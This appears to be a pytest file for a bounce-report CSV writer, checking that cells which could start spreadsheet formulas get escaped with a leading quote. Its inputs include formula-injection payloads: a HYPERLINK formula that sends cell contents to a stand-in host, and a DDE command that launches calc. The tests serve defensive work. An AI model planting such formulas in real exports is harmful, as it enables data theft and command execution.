"""CSV that a spreadsheet can open without running what a stranger wrote."""

import csv
import io

import pytest
from hypothesis import given

from bouncekit.records import Kind, Outcome, Report
from bouncekit.sinks import csv_rows
from sinks.reports import TEXTS


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://192.0.2.7/"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
        "'=1",
    ],
)  # fmt: skip
def test_no_cell_begins_a_formula(text):
    stream = io.BytesIO()
    csv_rows.write([Report(Kind.BOUNCE, outcomes=(Outcome(diagnostic=text),))], stream)
    heading, row = csv.reader(io.StringIO(stream.getvalue().decode(), newline=""))
    cell = row[heading.index("diagnostic")]
    assert cell == "'" + text
    assert csv_rows.plain(cell) == text


@pytest.mark.parametrize("text", ["550 5.1.1 no such user", "a=b", "'quoted' text", "ann@example.net"])
def test_other_cells_stay_as_they_are(text):
    assert csv_rows.cell(text) == text


@given(TEXTS)
def test_what_was_made_safe_can_be_had_back(text):
    assert csv_rows.plain(csv_rows.cell(text)) == text


def test_nothing_yes_and_no():
    assert [csv_rows.cell(value) for value in (None, True, False, 0)] == ["", "true", "false", "0"]
